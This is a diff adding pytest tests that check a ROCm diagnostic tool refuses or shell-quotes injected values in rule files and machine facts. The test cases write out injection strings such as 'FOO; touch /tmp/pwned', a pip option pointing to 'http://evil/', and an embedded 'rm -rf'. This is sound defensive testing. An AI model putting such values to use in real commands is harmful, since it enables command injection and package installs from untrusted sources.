@@ -1,0 +1,100 @@
+"""What a rule file or a paste puts in a command reaches no shell and no pip unquoted or unchecked."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from rocm_doctor.facts.model import Facts
+from rocm_doctor.fix.envfile import write_env_file
+from rocm_doctor.judge.derived import DerivedValues
+from rocm_doctor.judge.interpolate import interpolate_fix
+from rocm_doctor.judge.model import make_fix
+from rocm_doctor.judge.paths import Scope
+from rocm_doctor.remedy.decide import Context, decide
+from rocm_doctor.remedy.model import EnvChange
+
+from .helpers import finding, machine_facts
+
+RULE = """rules:
+  - id: RD901
+    name: custom-rule
+    severity: error
+    category: env
+    area: test
+    when: {{fact: host.os, eq: linux}}
+    title: t
+    message: m
+    explanation: e
+    fixes:
+      - {fix}
+    references: [{{url: "https://example.org"}}]
+"""
+MACHINE = Path(__file__).resolve().parents[1] / "machines" / "cpu-only"
+
+
+@pytest.mark.parametrize(
+    "fix, field",
+    [
+        ("{kind: env, unset: ['FOO; touch /tmp/pwned']}", "fixes[0].unset"),
+        ("{kind: env, set: {'A B': '1'}}", "fixes[0].set"),
+        ("{kind: pip, packages: ['.']}", "fixes[0].packages"),
+        ("{kind: pip, packages: ['-e', '.']}", "fixes[0].packages"),
+        ("{kind: pip, packages: ['--index-url=http://evil/', 'torch']}", "fixes[0].packages"),
+        ("{kind: pip, packages: ['pkg @ file:///tmp/evil']}", "fixes[0].packages"),
+        ("{kind: pip, packages: [torch], index_url: '--trusted-host=evil'}", "fixes[0].index_url"),
+    ],
+)
+def test_a_rule_file_with_an_injected_name_or_pip_option_is_refused_when_it_loads(run_cli, tmp_path: Path, fix, field) -> None:
+    rules = tmp_path / "evil.yaml"
+    rules.write_text(RULE.format(fix=fix), encoding="utf-8")
+    for args in (["rules", "validate", str(rules)], ["fix", "--machine", str(MACHINE), "--rules", str(rules)]):
+        result = run_cli(*args)
+        assert result.exit_code == 2 and f"field '{field}'" in result.stderr, result.stderr
+
+
+def test_a_setup_py_in_the_working_folder_is_never_run_by_a_rule(run_cli, tmp_path: Path, monkeypatch) -> None:
+    (tmp_path / "setup.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n", encoding="utf-8")
+    rules = tmp_path / "evil.yaml"
+    rules.write_text(RULE.format(fix="{kind: pip, packages: ['.']}"), encoding="utf-8")
+    monkeypatch.chdir(tmp_path)
+    assert run_cli("fix", "--machine", str(MACHINE), "--rules", str(rules), "--pip").exit_code == 2
+    assert not (tmp_path / "ran").exists()
+
+
+def _scope(facts: Facts) -> Scope:
+    return Scope(facts, DerivedValues(facts), None)
+
+
+def _plan(facts: Facts, *findings):
+    return decide(list(findings), facts, Context(is_read=lambda n: True)).plan
+
+
+def test_a_package_filled_from_a_hostile_fact_becomes_a_note_not_a_command() -> None:
+    facts = machine_facts(installed={"numpy": "1.26 --index-url http://evil/"})
+    fix = interpolate_fix(make_fix(kind="pip", packages=["numpy=={packages.installed.numpy}"]), _scope(facts))
+    plan = _plan(facts, finding("RD1", fix))
+    assert plan.of_kind("pip") == []
+    assert any("not a requirement specifier" in note for note in plan.notes)
+
+
+def test_a_value_placed_in_a_manual_command_is_quoted_for_the_shell(tmp_path: Path) -> None:
+    facts = machine_facts(installed={"torch": f"2.5; touch {tmp_path}/pwned\nrm -rf x"})
+    fix = interpolate_fix(make_fix(kind="manual", commands=["pip show torch=={packages.installed.torch}"]), _scope(facts))
+    (command,) = fix.commands
+    assert command == f"pip show torch=='2.5; touch {tmp_path}/pwned rm -rf x'"
+    subprocess.run(["sh", "-n", "-c", command], check=True)  # one simple command, it parses
+
+
+def test_a_variable_name_filled_from_a_fact_that_is_not_an_identifier_is_left_out(tmp_path: Path) -> None:
+    fix = make_fix(kind="env", unset=["{env.vars.X}"])
+    facts = machine_facts()
+    facts = facts.model_copy(update={"env": facts.env.model_copy(update={"vars": facts.env.vars.model_copy(
+        update={"status": "known", "value": {"X": "FOO; touch pwned"}})})})
+    plan = _plan(facts, finding("RD1", interpolate_fix(fix, _scope(facts))))
+    assert plan.env_changes() == {} and any("not an environment variable name" in note for note in plan.notes)
+    changes = [EnvChange(name, value) for name, value in plan.env_changes().items()] + [EnvChange("SAFE", "1")]
+    assert write_env_file(tmp_path / "rocm.sh", "bash", changes).changed
+    assert "touch" not in (tmp_path / "rocm.sh").read_text(encoding="utf-8")
